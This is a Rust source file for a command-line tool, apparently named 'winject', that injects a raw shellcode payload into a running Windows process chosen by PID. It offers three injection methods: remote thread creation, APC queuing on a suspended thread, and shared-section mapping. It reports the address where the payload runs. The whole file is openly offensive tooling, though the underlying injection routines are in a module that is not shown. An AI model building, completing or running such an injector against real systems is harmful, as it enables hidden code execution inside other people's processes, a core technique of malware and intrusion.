//! winject: drive one injection from the command line.

use std::path::PathBuf;

use clap::{Parser, ValueEnum};

#[derive(Parser)]
#[command(version, about = "Inject a raw shellcode payload into a running process")]
struct Args {
    /// Target process id
    #[arg(short, long)]
    pid: u32,

    /// Path to a raw shellcode .bin file
    #[arg(short = 'f', long)]
    payload: PathBuf,

    /// How the payload is provisioned and triggered
    #[arg(short, long, value_enum, default_value_t = Method::Thread)]
    method: Method,

    /// Queueing form for the apc method
    #[arg(long, value_enum, default_value_t = Variant::Legacy)]
    apc_variant: Variant,
}

#[derive(Clone, Copy, ValueEnum)]
enum Method {
    /// Direct allocation, remote write, new remote thread
    Thread,
    /// Direct allocation, APC queued on a fresh suspended thread
    Apc,
    /// Shared section written locally, new remote thread
    Section,
}

#[derive(Clone, Copy, ValueEnum)]
enum Variant {
    Legacy,
    Extended,
}

#[cfg(windows)]
fn main() {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();

    let args = Args::parse();

    let payload = match std::fs::read(&args.payload) {
        Ok(bytes) => bytes,
        Err(err) => {
            eprintln!("failed to read {}: {}", args.payload.display(), err);
            std::process::exit(1);
        }
    };

    let apc_variant = match args.apc_variant {
        Variant::Legacy => inject::ApcVariant::Legacy,
        Variant::Extended => inject::ApcVariant::Extended,
    };

    let result = match args.method {
        Method::Thread => inject::inject_shellcode_thread(args.pid, &payload),
        Method::Apc => inject::inject_shellcode_apc(args.pid, &payload, apc_variant),
        Method::Section => inject::inject_shellcode_section(args.pid, &payload),
    };

    match result {
        Ok(injection) => {
            println!(
                "payload of {} bytes running at {} in process {}",
                payload.len(),
                injection.base,
                args.pid
            );
        }
        Err(err) => {
            eprintln!("injection failed: {}", err);
            std::process::exit(1);
        }
    }
}

#[cfg(not(windows))]
fn main() {
    // keep the argument surface identical so --help works everywhere
    let _ = Args::parse();
    eprintln!("winject manipulates Windows processes and only runs on Windows");
    std::process::exit(1);
}
